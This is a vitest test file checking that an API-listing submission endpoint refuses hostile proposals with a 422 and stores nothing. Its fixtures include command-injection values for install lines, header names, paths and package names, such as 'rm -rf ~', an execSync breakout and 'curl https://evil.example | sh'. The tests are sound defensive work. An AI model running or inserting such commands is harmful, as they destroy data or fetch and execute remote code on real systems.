import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../support/test-server.ts';
import { createTestSqlitePath } from '../support/postgres.ts';

/**
 * Issue 28 at submission: a proposed listing whose facts would become a command that runs
 * something else when pasted (finding 1), or whose text holds characters that break XML, JSON
 * or a terminal (finding 4), is refused with a problem naming the field and the rule, and nothing is stored: 422, as ADR 7
 * answers every well-formed body with an invalid field.
 */

let counter = 0;
/** A valid proposal of an API nobody listed, with the overrides. */
const aSubmission = (overrides: Record<string, unknown> = {}) => {
  counter += 1;
  const word = `hostile${['amber', 'birch', 'cedar', 'dune', 'ember', 'fjord'][counter % 6]}${counter}`;
  return {
    name: `Harbour tides ${word}`,
    description: `Tide tables for ${word} as JSON`,
    url: `https://${word}.tides.example.org/docs`,
    category: 'Data & Information',
    capabilities: ['get tide tables'],
    ...overrides,
  };
};

const BASE = 'https://api.hostile-tides.example';
const CALL = {
  baseUrl: { value: BASE, source: 'own' },
  auth: { value: { type: 'apiKey', in: 'header', name: 'X-Api-Key', browserNeeded: false }, source: 'own' },
  firstRequest: { value: { method: 'GET', path: '/tides', parameters: [] }, source: 'own' },
};
const SOURCES = [{ id: 'own', title: 'Its docs', version: '1', licence: 'CC0-1.0', url: 'https://hostile-tides.example/openapi.json', asOf: '2026-11-01' }];

describe('hostile proposals', () => {
  let server: TestServer;
  const post = (body: unknown) => fetch(`${server.baseUrl}/api/apis/submit`, { method: 'POST', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } });
  const refused = async (overrides: Record<string, unknown>) => {
    const before = await server.ctx.store.countSubmissions();
    const response = await post(aSubmission(overrides));
    const body = (await response.json()) as { type: string; detail: string; errors: { field: string; in: string; message: string }[] };
    expect(response.status, JSON.stringify(body)).toBe(422);
    expect(body.type).toBe('/problems/invalid-input');
    expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(await server.ctx.store.countSubmissions()).toBe(before);
    return body;
  };

  beforeAll(async () => {
    server = await startTestServer(`file:${createTestSqlitePath()}`);
  });
  afterAll(async () => server?.close());

  it('takes a listing whose call facts, install line and package are of the safe shapes', async () => {
    const response = await post(aSubmission({ call: CALL, sources: SOURCES, install: 'npm install @hostile-tides/sdk', package: { name: '@hostile-tides/sdk', registry: 'npm' } }));
    expect(response.status).toBe(202);
  });

  it('refuses a header name that is no HTTP token, naming call.auth.name and the rule', async () => {
    const name = 'X-Key$(touch pwned)"; touch pwned2; echo "';
    const body = await refused({ call: { ...CALL, auth: { ...CALL.auth, value: { ...CALL.auth.value, name } } }, sources: SOURCES });
    expect(body.errors).toContainEqual({ in: 'body', field: 'call.auth.value.name', message: expect.stringMatching(/^call\.auth\.name must be an HTTP header name \(RFC 9110 token/) });
  });

  it('refuses an install line that is more than one install command and package names', async () => {
    for (const install of ['npm install x $(touch pwned) && curl https://evil.example | sh', 'npm install x; rm -rf ~', 'npm install `id`', 'curl https://evil.example | sh']) {
      const body = await refused({ install });
      expect(body.errors).toContainEqual({ in: 'body', field: 'install', message: expect.stringMatching(/^install must be one install command followed only by package names, e\.g\. "npm install some-sdk"/) });
    }
  });

  it('refuses a package name an import line would break out of', async () => {
    const body = await refused({ package: { name: "x'; import('node:child_process').then(c => c.execSync('touch pwned')); '", registry: 'npm' } });
    expect(body.errors).toContainEqual({ in: 'body', field: 'package.name', message: expect.stringMatching(/^package\.name must be an npm package name/) });
  });

  it('refuses text that breaks XML, JSON or a terminal, naming the field and the character (finding 4)', async () => {
    for (const [overrides, field, pattern] of [
      [{ name: 'Tides \uFFFF' }, 'name', /^name must not contain U\+FFFF \(a noncharacter\)/],
      [{ name: 'Tides \ud800' }, 'name', /^name must not contain U\+D800 \(a lone surrogate/],
      [{ description: 'Tide tables\u009b31m' }, 'description', /^description must not contain U\+009B \(a C1 control character\)/],
      [{ capabilities: ['get tides\u2028now'] }, 'capabilities[0]', /^capability must not contain U\+2028 \(the line separator\)/],
      [{ submittedBy: 'bot\u0085' }, 'submittedBy', /^submittedBy must not contain U\+0085/],
    ] as const) {
      const body = await refused(overrides);
      expect(body.errors).toContainEqual({ in: 'body', field, message: expect.stringMatching(pattern) });
    }
  });

  it('refuses a base URL or path with spaces, and a base URL with a query', async () => {
    const spaced = await refused({ call: { ...CALL, firstRequest: { ...CALL.firstRequest, value: { ...CALL.firstRequest.value, path: '/tides"; touch pwned; echo "' } } }, sources: SOURCES });
    expect(spaced.errors).toContainEqual({ in: 'body', field: 'call.firstRequest.value.path', message: expect.stringMatching(/^call\.firstRequest\.path must not contain spaces or line breaks/) });
    const query = await refused({ call: { ...CALL, baseUrl: { value: `${BASE}/?$(touch${'${IFS}'}pwned)`, source: 'own' } }, sources: SOURCES });
    expect(query.errors).toContainEqual({ in: 'body', field: 'call.baseUrl.value', message: expect.stringMatching(/^call\.baseUrl must not hold a query or a fragment/) });
  });
});
